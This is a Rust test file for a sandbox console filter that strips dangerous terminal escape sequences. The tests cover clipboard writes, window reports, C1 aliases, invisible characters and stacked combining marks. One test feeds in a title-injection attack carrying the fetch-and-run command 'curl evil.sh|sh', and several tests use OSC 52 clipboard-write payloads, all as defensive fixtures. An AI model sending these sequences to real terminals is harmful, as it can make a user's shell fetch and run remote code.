//! What gets through the console filter.
use blinools::sandbox::console::filter::{
    allowed_csi, allowed_esc, is_combining_mark, is_format_char, mode_numbers, perform_all,
    AnsiFilter, FilterPerformer, COMBINING_MARKER_CONSECUTIVE_MAX, MAX_STRING_SEQUENCE,
};
use blinools::sandbox::console::terminal::{Action, ANSI_ESC};

fn filter(input: &[u8]) -> Vec<u8> {
    let mut output = Vec::new();
    AnsiFilter::new().filter(input, &mut output);
    output
}

/// Feed the input one byte at a time to make sure the filter is not fooled by chunk boundaries
fn filter_bytewise(input: &[u8]) -> Vec<u8> {
    let mut output = Vec::new();
    let mut escape_filter = AnsiFilter::new();
    for byte in input {
        escape_filter.filter(&[*byte], &mut output);
    }
    output
}

#[test]
fn passes_plain_text_through() {
    assert_eq!(filter(b"hello world\r\n"), b"hello world\r\n");
}

#[test]
fn passes_colors_and_cursor_movement_through() {
    let input = b"\x1b[1;31mred\x1b[0m\x1b[2J\x1b[10;20H\x1b[?1049h\x1b[?2004h";
    assert_eq!(filter(input), input);
    assert_eq!(filter_bytewise(input), input);
}

#[test]
fn passes_intermediates_on_the_right_side_of_the_parameters() {
    assert_eq!(filter(b"\x1b[?1000h"), b"\x1b[?1000h");
    assert_eq!(filter(b"\x1b[1 q"), b"\x1b[1 q");
    assert_eq!(filter(b"\x1b[38:2::255:0:0m"), b"\x1b[38:2:0:255:0:0m");
}

#[test]
fn passes_multi_byte_utf8_through() {
    // Box drawing, arrows, dashes, quotes and emoji all have continuation bytes inside the C1
    // range, dropping those would shred every TUI frame
    let input = "┌─┐│└┘ → ← — “quoted” • é ± 😀 你好".as_bytes();
    assert_eq!(filter(input), input);
    assert_eq!(filter_bytewise(input), input);
    assert!(std::str::from_utf8(&filter(input)).is_ok());
}

#[test]
fn passes_utf8_split_across_calls() {
    let input = "─😀".as_bytes();
    let mut output = Vec::new();
    let mut escape_filter = AnsiFilter::new();
    for chunk in input.chunks(2) {
        escape_filter.filter(chunk, &mut output);
    }
    assert_eq!(output, input);
}

#[test]
fn drops_osc_52_clipboard_writes() {
    assert_eq!(filter(b"a\x1b]52;c;cGF5bG9hZA==\x07b"), b"ab");
    assert_eq!(filter(b"a\x1b]52;c;cGF5bG9hZA==\x1b\\b"), b"ab");
    assert_eq!(filter_bytewise(b"a\x1b]52;c;cGF5bG9hZA==\x07b"), b"ab");
}

#[test]
fn drops_the_set_title_then_report_title_attack() {
    let input = b"\x1b]0;curl evil.sh|sh\x07\x1b[21t";
    assert_eq!(filter(input), b"");
    assert_eq!(filter_bytewise(input), b"");
}

#[test]
fn drops_all_window_operations() {
    for request in [
        "\x1b[11t", "\x1b[13t", "\x1b[14t", "\x1b[18t", "\x1b[20t", "\x1b[21t",
    ] {
        assert_eq!(filter(request.as_bytes()), b"");
    }
}

#[test]
fn drops_dcs_sos_pm_and_apc_strings() {
    assert_eq!(filter(b"a\x1bPq#0;2;0;0;0\x1b\\b"), b"ab");
    assert_eq!(filter(b"a\x1bXpayload\x1b\\b"), b"ab");
    assert_eq!(filter(b"a\x1b^payload\x1b\\b"), b"ab");
    assert_eq!(filter(b"a\x1b_payload\x1b\\b"), b"ab");
}

#[test]
fn bel_does_not_terminate_a_dcs_string() {
    // Only OSC ends on BEL, a sixel payload containing 0x07 must not spill its tail as text
    assert_eq!(filter(b"\x1bPq#0;2;0;0;0\x07LEAKED\x1b\\ok"), b"ok");
}

#[test]
fn drops_eight_bit_c1_aliases() {
    // Stray C1 bytes in ground state, the payload behind them is only ever text
    assert_eq!(
        filter(b"a\x9d52;c;cGF5bG9hZA==\x07b"),
        b"a52;c;cGF5bG9hZA==\x07b"
    );
    assert_eq!(filter(b"a\x9b21tb"), b"a21tb");
    // A C1 introducer hidden behind an ESC or inside a CSI must not reach the terminal either
    for input in [
        b"\x1b\x9d52;c;cGF5bG9hZA==\x07".as_slice(),
        b"\x1b[1\x9d52;c;AA==\x07".as_slice(),
    ] {
        let output = filter(input);
        assert!(
            !output.contains(&0x9d),
            "C1 introducer survived: {output:?}"
        );
    }
}

#[test]
fn drops_the_utf8_encoded_form_of_a_c1_alias() {
    // A terminal in UTF-8 mode decodes `c2 9d` back to the OSC introducer
    assert_eq!(
        filter("a\u{9d}52;c;AA==\x07b".as_bytes()),
        b"a52;c;AA==\x07b"
    );
}

#[test]
fn absorbs_an_overlong_sequence() {
    // The tail of a runaway sequence must not spill onto the terminal as text
    let mut output = Vec::new();
    let mut escape_filter = AnsiFilter::new();
    escape_filter.filter(&[ANSI_ESC, b'['], &mut output);
    escape_filter.filter(&[b'1'; 128], &mut output);
    // The parameter saturates, the sequence still has to be closed by a final byte
    escape_filter.filter(b"m", &mut output);
    escape_filter.filter(b"ok", &mut output);
    assert_eq!(output, b"\x1b[65535mok");
}

#[test]
fn recovers_from_an_unterminated_string() {
    // Without a cap this would black out the console for the rest of the session
    let mut output = Vec::new();
    let mut escape_filter = AnsiFilter::new();
    escape_filter.filter(b"\x1b]", &mut output);
    escape_filter.filter(&[b'x'; MAX_STRING_SEQUENCE + 1], &mut output);
    escape_filter.filter(b"ok", &mut output);
    assert_eq!(output, b"ok");
}

#[test]
fn cancel_aborts_a_string() {
    // A guest killed mid sequence must not take the console with it
    assert_eq!(filter(b"\x1b]0;title\x18hello"), b"\x18hello");
    assert_eq!(filter(b"\x1b]0;title\x1ahello"), b"\x1ahello");
}

#[test]
fn nul_bytes_are_dropped_from_plain_text() {
    assert_eq!(filter(b"a\0b\0"), b"ab");
    assert_eq!(filter(b"\x07\x08\t\n\x7f"), b"\x07\x08\t\n\x7f");
}

#[test]
fn invisible_characters_are_dropped() {
    assert!(is_format_char('\u{200B}'));
    assert!(!is_format_char('a'));
    assert_eq!(filter("a\u{200B}b\u{202E}c".as_bytes()), b"abc");
}

#[test]
fn marks_do_not_pile_up() {
    assert!(is_combining_mark('\u{301}'));
    assert!(!is_combining_mark('a'));
    let mut input = String::from("a");
    for _ in 0..20 {
        input.push('\u{301}');
    }
    input.push('b');
    input.push('\u{301}');
    let mut expected = String::from("a");
    for _ in 0..COMBINING_MARKER_CONSECUTIVE_MAX {
        expected.push('\u{301}');
    }
    expected.push('b');
    expected.push('\u{301}');
    assert_eq!(filter(input.as_bytes()), expected.as_bytes());
}

#[test]
fn an_invisible_character_does_not_separate_marks() {
    let mut input = String::from("a");
    for _ in 0..5 {
        input.push('\u{301}');
    }
    input.push('\u{200B}');
    for _ in 0..5 {
        input.push('\u{301}');
    }
    assert_eq!(filter(input.as_bytes()).len(), 1 + 2 * COMBINING_MARKER_CONSECUTIVE_MAX);
}

#[test]
fn only_known_private_modes_are_switched() {
    assert_eq!(filter(b"\x1b[?25;1049h"), b"\x1b[?25;1049h");
    assert_eq!(filter(b"\x1b[?25;12h"), b"");
    assert_eq!(filter(b"\x1b[?25n"), b"");
    assert_eq!(mode_numbers(&vec![vec![25, 7], vec![], vec![1049]]), vec![25, 1049]);
}

#[test]
fn the_scrollback_is_not_erased() {
    assert_eq!(filter(b"\x1b[3J"), b"");
    assert_eq!(filter(b"\x1b[2J"), b"\x1b[2J");
    assert!(!allowed_csi('J', &vec![vec![0, 3]]));
}

#[test]
fn editing_keys_pass_and_function_keys_do_not() {
    assert!(allowed_csi('~', &vec![vec![1]]));
    assert!(allowed_csi('~', &vec![vec![], vec![8]]));
    assert!(!allowed_csi('~', &vec![vec![9]]));
    assert!(!allowed_csi('~', &vec![]));
    assert!(!allowed_csi('c', &vec![]));
}

#[test]
fn some_escape_sequences_pass() {
    assert_eq!(filter(b"\x1b7\x1b8\x1bD\x1bM\x1bE\x1bH"), b"\x1b7\x1b8\x1bD\x1bM\x1bE\x1bH");
    assert_eq!(filter(b"\x1bc\x1b=\x1b(0"), b"");
    assert!(!allowed_esc(b'c'));
}

#[test]
fn every_escape_character_is_followed_by_what_is_allowed() {
    let inputs: Vec<&[u8]> = vec![
        b"\x1b[31mred\x1b]0;title\x07\x1bP1\x1b\\\x1b7\x1b[?25h",
        b"\x1b\x1b\x1b[\x1b[1m\x1b",
        b"\x1b[1\x1b[2J",
    ];
    for input in inputs {
        for output in [filter(input), filter_bytewise(input)] {
            for i in 0..output.len() {
                if output[i] == ANSI_ESC {
                    assert!(i + 1 < output.len());
                    assert!(output[i + 1] == b'[' || allowed_esc(output[i + 1]));
                }
            }
        }
    }
}

#[test]
fn actions_are_written_out_again() {
    let mut output = b">".to_vec();
    perform_all(
        &vec![
            Action::Print('\u{e9}'),
            Action::Execute(0),
            Action::Execute(7),
            Action::Execute(0x9d),
            Action::Csi {
                params: vec![vec![38, 5], vec![0]],
                intermediates: vec![],
                ignore: false,
                action: 'm',
            },
            Action::Csi { params: vec![], intermediates: vec![], ignore: true, action: 'm' },
            Action::Esc { intermediates: vec![], ignore: false, byte: b'7' },
            Action::Esc { intermediates: vec![b'('], ignore: false, byte: b'7' },
            Action::Osc,
            Action::Hook,
            Action::Put,
            Action::Unhook,
        ],
        &mut output,
    );
    assert_eq!(output, b">\xc3\xa9\x07\x1b[38:5;0m\x1b7");
}

#[test]
fn a_performer_appends_to_its_output() {
    let mut output = b"a".to_vec();
    let mut performer = FilterPerformer::new(&mut output);
    performer.print('b');
    performer.execute(b'\n');
    performer.csi_dispatch(&vec![vec![1]], &vec![b' '], false, 'q');
    performer.esc_dispatch(&vec![], false, b'8');
    assert_eq!(performer.combining_marker_count, 0);
    assert_eq!(output, b"ab\n\x1b[1 q\x1b8");
}

#[test]
fn a_silent_sequence_within_the_limit_is_not_given_up() {
    let mut output = Vec::new();
    let mut escape_filter = AnsiFilter::default();
    escape_filter.filter(b"\x1b]", &mut output);
    escape_filter.filter(&[b'x'; MAX_STRING_SEQUENCE - 2], &mut output);
    escape_filter.filter(b"", &mut output);
    assert_eq!(output, b"");
    escape_filter.filter(b"\x07ok", &mut output);
    assert_eq!(output, b"ok");
}

#[test]
fn a_c1_control_is_dropped_wherever_it_is_cut() {
    let input = "a\u{9d}52;c;AA==\x07b\u{80}\u{9f}c".as_bytes();
    assert_eq!(filter(input), b"a52;c;AA==\x07bc");
    assert_eq!(filter_bytewise(input), b"a52;c;AA==\x07bc");
    let mut output = Vec::new();
    let mut performer = FilterPerformer::new(&mut output);
    for character in ['\u{7f}', '\u{80}', '\u{9d}', '\u{9f}', '\u{a0}'] {
        performer.print(character);
    }
    assert_eq!(output, "\u{7f}\u{a0}".as_bytes());
}

#[test]
fn a_dropped_c1_control_does_not_separate_marks() {
    let marks = "\u{301}".repeat(COMBINING_MARKER_CONSECUTIVE_MAX);
    let mut output = Vec::new();
    let mut performer = FilterPerformer::new(&mut output);
    for character in marks.chars().chain(['\u{9d}', '\u{301}']) {
        performer.print(character);
    }
    assert_eq!(performer.combining_marker_count, COMBINING_MARKER_CONSECUTIVE_MAX + 1);
    assert_eq!(output, marks.as_bytes());
}

/// Inputs of all kinds, none of which prints a combining mark.
fn inputs() -> Vec<Vec<u8>> {
    let alphabet = b"\x1b\x1b\x1b[[[]PX?!  111;:78qmhJHx~\x07\x18\x00\n\\\x80\x9c\xa9\xa9\xc2\xc2\xc3\xe2\xf0\xff";
    let mut seed: u64 = 1;
    let mut next = |limit: usize| -> usize {
        seed = seed.wrapping_mul(6364136223846793005).wrapping_add(1442695040888963407);
        (seed >> 33) as usize % limit
    };
    (0..3000)
        .map(|_| (0..next(40)).map(|_| alphabet[next(alphabet.len())]).collect())
        .collect()
}

#[test]
fn the_output_is_clean_text() {
    for input in inputs() {
        for output in [filter(&input), filter_bytewise(&input)] {
            let text = std::str::from_utf8(&output).unwrap();
            assert!(text.chars().all(|c| c != '\0' && !('\u{80}'..='\u{9f}').contains(&c)));
        }
    }
}

#[test]
fn what_was_let_through_is_let_through_again() {
    for input in inputs() {
        let output = filter(&input);
        assert_eq!(filter(&output), output, "{input:?}");
    }
    let marks = format!("a{}\n\u{301}b\u{200d}\u{301}", "\u{301}".repeat(9));
    let output = filter(marks.as_bytes());
    assert_eq!(filter(&output), output);
    let params: Vec<String> = (0..32).map(|n| (n * 2000).to_string()).collect();
    let output = filter(format!("\x1b[{}m", params.join(";")).as_bytes());
    assert!(!output.is_empty());
    assert_eq!(filter(&output), output);
}

fn may_lose_a_character(before: &[u8], piece: &[u8]) -> bool {
    before.last().is_some_and(|byte| (0xc2..=0xdf).contains(byte))
        && piece.len() >= 3
        && (0x80..=0xbf).contains(&piece[0])
        && piece[1] < 0x80
        && piece[2] >= 0x80
}

#[test]
fn it_does_not_matter_how_the_input_is_cut() {
    for input in inputs() {
        let whole = filter(&input);
        assert_eq!(filter_bytewise(&input), whole, "{input:?}");
        for size in 2..7 {
            let pieces = input.chunks(size).enumerate();
            if pieces
                .clone()
                .any(|(i, piece)| may_lose_a_character(&input[..i * size], piece))
            {
                continue;
            }
            let mut output = Vec::new();
            let mut escape_filter = AnsiFilter::new();
            for (_, piece) in pieces {
                escape_filter.filter(piece, &mut output);
            }
            assert_eq!(output, whole, "{input:?} in pieces of {size}");
        }
    }
}

#[test]
fn a_longer_character_may_be_cut_anywhere() {
    for input in ["\u{20ac}x\u{e9}", "\u{1f600}x\u{e9}", "\u{e9}xy\u{e9}"] {
        let input = input.as_bytes();
        for at in 0..input.len() {
            let mut output = Vec::new();
            let mut escape_filter = AnsiFilter::new();
            escape_filter.filter(&input[..at], &mut output);
            escape_filter.filter(&input[at..], &mut output);
            assert_eq!(output, input, "cut at {at}");
        }
    }
}
